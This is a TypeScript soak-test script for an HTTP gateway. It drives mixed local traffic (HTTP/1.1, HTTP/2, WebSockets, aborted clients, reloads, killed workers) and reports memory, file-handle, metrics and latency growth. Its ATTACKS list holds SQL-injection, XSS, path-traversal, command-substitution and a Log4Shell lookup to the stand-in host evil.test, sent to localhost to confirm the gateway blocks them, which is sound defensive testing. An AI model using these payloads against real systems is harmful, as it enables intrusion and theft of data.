import { randomBytes } from "node:crypto";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import type { AddressInfo } from "node:net";
import { loadavg, tmpdir } from "node:os";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { parseArgs } from "node:util";
import { type Gateway, startGateway } from "../test/support/gateway.ts";
import { sendRandom } from "../test/support/random-traffic.ts";
import { connect } from "../test/support/raw-client.ts";
import { handshake, masked, switching } from "../test/support/websocket.ts";
import { spread } from "./load/statistics.ts";

/**
 * What grows while a gateway serves: series of /metrics, resident memory and open files of every process, and the latency
 * of requests beside that of the same requests sent to the origin itself; under mixed traffic with attacks, reloads,
 * rotations of the log and a worker killed now and then. `node bench/soak.ts --minutes 120` prints a table; `--save` writes
 * results/soak.md. Exit code 1: something grew after the first quarter, or an attack came through.
 */
const { values } = parseArgs({
  options: { minutes: { type: "string", default: "10" }, save: { type: "boolean" } },
});
const minutes = Number(values.minutes);
if (!(minutes > 0 && minutes <= 24 * 60)) throw new Error("--minutes takes 1 to 1440");
const SAMPLE_MS = 10_000;
const ATTACKS = [
  "1' UNION SELECT password FROM users--",
  "<img src=x onerror=alert(document.cookie)>",
  "../../../../etc/passwd",
  "$(cat /etc/passwd)",
  "${jndi:ldap://evil.test/a}",
];

interface Sample {
  readonly secs: number;
  readonly series: ReadonlySet<string>;
  readonly rssMb: Readonly<Record<string, number>>;
  readonly files: Readonly<Record<string, number>>;
  /** Median and 99th percentile of the requests since the sample before, ms. */
  readonly latencyMs: Readonly<Record<"gateway" | "origin", readonly [number, number]>>;
  readonly load: number;
}

const endings: (() => unknown)[] = [];
const context = { after: (end: unknown) => void endings.push(end as () => unknown) };
const counts = {
  random: 0,
  kept: 0,
  http2: 0,
  webSockets: 0,
  left: 0,
  attacks: 0,
  cameThrough: 0,
  cached: 0,
  reloads: 0,
  rotations: 0,
  killed: 0,
  failed: 0,
};
let isOver = false;
/** Since the last sample. */
let latenciesMs: Record<"gateway" | "origin", number[]> = { gateway: [], origin: [] };
process.exitCode = await soak();

async function soak(): Promise<number> {
  const origin = await startOrigin();
  const auditFolder = mkdtempSync(path.join(tmpdir(), "zion-soak-"));
  endings.push(() => rmSync(auditFolder, { recursive: true, force: true }));
  const gateway = await startGateway(context, configOf(origin.port, auditFolder), { tls: true });
  const samples: Sample[] = [];
  const startMs = performance.now();
  const traffic = [
    kept(gateway, origin.port),
    ...[random, cached, attacks, overHttp2, webSockets, leaving, operators].map((part) => part(gateway)),
  ];
  while (performance.now() - startMs < minutes * 60_000) {
    await sleep(Math.min(SAMPLE_MS, minutes * 15_000));
    samples.push(await look(gateway, (performance.now() - startMs) / 1000));
    // What ends it early leaves what was seen until then.
    if (samples.length % 60 === 0) save(report(samples).text);
  }
  isOver = true;
  await Promise.all(traffic);
  for (const end of endings.reverse()) await end();
  origin.close();
  const { text, hasGrown } = report(samples);
  console.log(text);
  save(text);
  return hasGrown ? 1 : 0;
}

function save(text: string): void {
  if (values.save === true) writeFileSync(path.join(import.meta.dirname, "results/soak.md"), text);
}

// --- traffic: each part goes on until it is over, one step after the other, a few hundred requests a second in all

async function until(step: () => Promise<unknown>, pauseMs: number): Promise<void> {
  while (!isOver) {
    try {
      await step();
    } catch {
      counts.failed++;
    }
    await sleep(pauseMs);
  }
}

async function random({ port }: Gateway): Promise<void> {
  await until(async () => void (counts.random += (await sendRandom(port, 40)).sent), 200);
}

/** The same requests to the gateway and, one in four, to the origin: what the machine does is in both. */
async function kept({ port }: Gateway, originPort: number): Promise<void> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
  const body = JSON.stringify({
    items: Array.from({ length: 40 }, (_, i) => ({ id: i, name: `item ${i}` })),
  });
  await until(async () => {
    const timed = async (to: "gateway" | "origin"): Promise<void> => {
      const startMs = performance.now();
      await ask(to === "gateway" ? port : originPort, agent, body);
      latenciesMs[to].push(performance.now() - startMs);
    };
    await Promise.all(Array.from({ length: 8 }, () => timed("gateway")));
    await Promise.all([timed("origin"), timed("origin")]);
    counts.kept += 8;
  }, 50);
  agent.destroy();
}

function ask(port: number, agent: http.Agent, body: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const headers = { "content-type": "application/json", "content-length": body.length };
    const request = http.request({
      host: "127.0.0.1",
      port,
      agent,
      method: "POST",
      path: "/shop/cart",
      headers,
    });
    request.on("response", (answer) => answer.resume().on("end", resolve).on("error", reject));
    request.on("error", reject);
    request.end(body);
  });
}

async function cached({ port }: Gateway): Promise<void> {
  let page = 0;
  await until(async () => {
    const answer = await fetch(`http://127.0.0.1:${port}/pages/${page++ % 500}`);
    await answer.arrayBuffer();
    counts.cached++;
  }, 50);
}

async function attacks({ port }: Gateway): Promise<void> {
  await until(async () => {
    const text = ATTACKS[counts.attacks % ATTACKS.length]!;
    const isBody = counts.attacks++ % 2 === 0;
    const answer = await (isBody
      ? fetch(`http://127.0.0.1:${port}/comment`, {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ id: counts.attacks, text }),
        })
      : fetch(`http://127.0.0.1:${port}/find?q=${encodeURIComponent(text)}`));
    await answer.arrayBuffer();
    if (answer.status < 400) counts.cameThrough++;
  }, 100);
}

async function overHttp2({ tlsPort }: Gateway): Promise<void> {
  await until(async () => {
    const session = http2.connect(`https://localhost:${tlsPort}`, { rejectUnauthorized: false });
    session.on("error", () => {});
    const asked = Array.from({ length: 10 }, async (_, i) => {
      const stream = session.request({ ":path": `/h2/${i}?page=${i}` });
      stream.on("error", () => {});
      // One in ten is given up.
      if (i === 9) stream.close(http2.constants.NGHTTP2_CANCEL);
      for await (const _part of stream);
    });
    await Promise.allSettled(asked);
    session.destroy();
    counts.http2 += asked.length;
  }, 300);
}

async function webSockets({ port }: Gateway): Promise<void> {
  await until(async () => {
    const client = await connect(port);
    client.send(handshake().replace("/chat", "/socket/x"));
    await client.answer();
    client.send(masked(1, "hello"));
    await sleep(50);
    client.reset();
    counts.webSockets++;
  }, 200);
}

/** Clients that leave inside a head, a body or an answer. */
async function leaving({ port }: Gateway): Promise<void> {
  const starts = [
    "GET /x HTTP/1.1\r\nHos",
    "POST /x HTTP/1.1\r\nHost: a.test\r\nContent-Length: 99999\r\n\r\nhalf",
    "GET /large HTTP/1.1\r\nHost: a.test\r\n\r\n",
  ];
  await until(async () => {
    const client = await connect(port);
    client.send(starts[counts.left++ % starts.length]!);
    await sleep(20);
    client.reset();
  }, 100);
}

async function operators(gateway: Gateway): Promise<void> {
  let turn = 0;
  await until(async () => {
    for (let i = 0; i < 20 && !isOver; i++) await sleep(1000);
    turn++;
    gateway.signal("SIGHUP");
    counts.reloads++;
    gateway.signal("SIGUSR2");
    counts.rotations++;
    const [worker] = gateway.workers();
    if (turn % 6 !== 3 || worker === undefined) return;
    process.kill(worker, "SIGKILL");
    counts.killed++;
  }, 0);
}

// --- figures

async function look(gateway: Gateway, secs: number): Promise<Sample> {
  const page = await (await fetch(`http://127.0.0.1:${gateway.telemetryPort}/metrics`)).text();
  const rssMb: Record<string, number> = {};
  const files: Record<string, number> = {};
  for (const pid of treeOf(gateway.pid)) {
    try {
      const role = roleOf(pid, gateway.pid);
      rssMb[role] = (rssMb[role] ?? 0) + gateway.rss(pid) / 1_048_576;
      files[role] = (files[role] ?? 0) + readdirSync(`/proc/${pid}/fd`).length;
    } catch {
      // It has just ended.
    }
  }
  const lines = page.split("\n").filter((line) => line !== "" && !line.startsWith("#"));
  const series = new Set(lines.map((line) => line.slice(0, line.lastIndexOf(" "))));
  const latencyMs = { gateway: quantiles(latenciesMs.gateway), origin: quantiles(latenciesMs.origin) };
  latenciesMs = { gateway: [], origin: [] };
  return { secs, series, rssMb, files, latencyMs, load: loadavg()[0]! };
}

function quantiles(values: readonly number[]): readonly [number, number] {
  const sorted = values.toSorted((a, b) => a - b);
  const at = (share: number): number => sorted[Math.floor(sorted.length * share)] ?? Number.NaN;
  return [at(0.5), at(0.99)];
}

function treeOf(pid: number): number[] {
  try {
    const children = readFileSync(`/proc/${pid}/task/${pid}/children`, "utf8").split(" ").filter(Boolean);
    return [pid, ...children.flatMap((child) => treeOf(Number(child)))];
  } catch {
    return [];
  }
}

/** Workers are added up; others are named by their program. */
function roleOf(pid: number, primary: number): string {
  if (pid === primary) return "primary";
  const program = readFileSync(`/proc/${pid}/cmdline`, "utf8")
    .split("\0")
    .find((word) => /\.[jt]s$/.test(word));
  if (program === undefined) return "guard";
  const name = path.basename(program).replace(/\.[jt]s$/, "");
  return name === "worker-process" ? "workers" : name;
}

function report(samples: readonly Sample[]): { readonly text: string; readonly hasGrown: boolean } {
  const settled = samples.slice(Math.floor(samples.length / 4));
  const half = Math.floor(settled.length / 2);
  const roles = [...new Set(samples.flatMap(({ rssMb }) => Object.keys(rssMb)))];
  const halves = (of: (sample: Sample) => number | undefined) =>
    [settled.slice(0, half), settled.slice(half)].map((part) =>
      medianOf(part.flatMap((one) => of(one) ?? [])),
    );
  const row = (
    what: string,
    digits: number,
    mayGrow: number,
    of: (sample: Sample) => number | undefined,
  ) => ({
    what,
    digits,
    values: halves(of),
    slope: slopeAnHour(settled, of),
    mayGrow,
  });
  const rows = [
    row("series in /metrics", 0, 1.05, (sample) => sample.series.size),
    ...roles.flatMap((role) => [
      row(`RSS of ${role}, MB`, 0, 1.1, ({ rssMb }) => rssMb[role]),
      row(`open files of ${role}`, 0, 1.2, ({ files }) => files[role]),
    ]),
    row("p50 through the gateway, ms", 2, 2, ({ latencyMs }) => latencyMs.gateway[0]),
    row("p99 through the gateway, ms", 2, 2, ({ latencyMs }) => latencyMs.gateway[1]),
    row("p50 of the origin itself, ms", 2, Infinity, ({ latencyMs }) => latencyMs.origin[0]),
    row("p99 of the origin itself, ms", 2, Infinity, ({ latencyMs }) => latencyMs.origin[1]),
  ];
  const known = settled[0]!.series;
  const added = [...samples.at(-1)!.series].filter((one) => !known.has(one));
  const grew = rows
    .filter(({ values: [a, b], mayGrow, digits }) => b! > a! * mayGrow + (digits === 0 ? 10 : 1))
    .map(({ what }) => what);
  const every = Math.max(1, Math.floor(samples.length / 20));
  const lines = [
    "# Soak",
    "",
    `\`node bench/soak.ts --minutes ${minutes} --save\`, ${(samples.at(-1)!.secs / 60).toFixed(0)} minutes of it, ${new Date().toISOString()}, load ${medianOf(samples.map(({ load }) => load)).toFixed(1)} (median of its samples) by this and others. Sent: ${Object.entries(
      counts,
    )
      .map(([name, count]) => `${name} ${count}`)
      .join(", ")}. \`failed\` are steps of the client that met a worker that was killed.`,
    "",
    "Medians of the two halves after the first quarter: what leaks is larger in the later one.",
    "",
    "| | earlier | later | slope an hour |",
    "| --- | --- | --- | --- |",
    ...rows.map(
      ({ what, digits, values: [a, b], slope }) =>
        `| ${what} | ${a!.toFixed(digits)} | ${b!.toFixed(digits)} | ${slope.toFixed(digits + 1)} |`,
    ),
    "",
    `Grew: ${grew.length === 0 ? "nothing" : grew.join(", ")}.`,
    "",
    `Series at the end that were not there after the first quarter, ${added.length}: ${added
      .slice(0, 30)
      .map((one) => `\`${one}\``)
      .join(
        ", ",
      )}. What happens for the first time has one, of a closed list; nothing in them may come from a client.`,
    "",
    `| secs | load | series | p50 / p99 ms | ${roles.map((role) => `${role} MB / files`).join(" | ")} |`,
    `| --- | --- | --- | --- |${roles.map(() => " --- |").join("")}`,
    ...samples
      .filter((_, i) => i % every === 0)
      .map(
        ({ secs, load, series: { size }, rssMb, files, latencyMs: { gateway } }) =>
          `| ${secs.toFixed(0)} | ${load.toFixed(1)} | ${size} | ${gateway.map((ms) => ms.toFixed(1)).join(" / ")} | ${roles.map((role) => `${(rssMb[role] ?? 0).toFixed(0)} / ${files[role] ?? 0}`).join(" | ")} |`,
      ),
    "",
  ];
  return { text: lines.join("\n"), hasGrown: grew.length > 0 || counts.cameThrough > 0 };
}

/** Least squares over the samples, in the row's unit for one hour. */
function slopeAnHour(samples: readonly Sample[], of: (sample: Sample) => number | undefined): number {
  const points = samples.flatMap((sample) => {
    const value = of(sample);
    return value === undefined || Number.isNaN(value) ? [] : [{ hours: sample.secs / 3600, value }];
  });
  const mean = (read: (point: { hours: number; value: number }) => number): number =>
    points.reduce((sum, point) => sum + read(point), 0) / points.length;
  const [hours, value] = [mean((point) => point.hours), mean((point) => point.value)];
  const above = mean((point) => (point.hours - hours) * (point.value - value));
  return above / mean((point) => (point.hours - hours) ** 2);
}

function medianOf(values: readonly number[]): number {
  return spread(values)?.median ?? 0;
}

function configOf(originPort: number, auditFolder: string): string {
  const keyPath = path.join(auditFolder, "key");
  writeFileSync(keyPath, randomBytes(32), { mode: 0o600 });
  const route = (target: string, more = ""): string =>
    `[[route]]\npath = "${target}"\nupstream = "app"\n${more}\n`;
  return `[server]
workers = 2
shutdown_delay_ms = 0
max_connections_per_ip = 0
http_mode = "serve"
[limit.each]
key = ["header:x-request-id"]
rate = 5
window_secs = 60
max_keys = 10000
[audit]
enabled = true
path = ${JSON.stringify(path.join(auditFolder, "log"))}
key_file = ${JSON.stringify(keyPath)}
[cache_profile.pages]
default_ttl_seconds = 2
[upstream.app]
url = "http://127.0.0.1:${originPort}"
${route("/pages/{*rest}", 'cache_profile = "pages"')}${route("/{*rest}", 'limits = ["each"]')}${route("/socket/{*rest}", 'mode = "websocket"')}`;
}

async function startOrigin(): Promise<{ readonly port: number; close(): void }> {
  const large = Buffer.alloc(2_000_000, "x");
  const server = http.createServer((request, response) => {
    request.resume();
    response.end(request.url === "/large" ? large : "hello");
  });
  server.on("upgrade", (request, socket) => {
    socket.on("error", () => {});
    const fields = Object.entries(request.headers).map(([name, value]) => [name, String(value)] as const);
    socket.write(switching({ fields }));
    socket.resume();
    // Such sockets may be half open: one that is not ended stays for good.
    socket.on("end", () => socket.end());
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return {
    port: (server.address() as AddressInfo).port,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
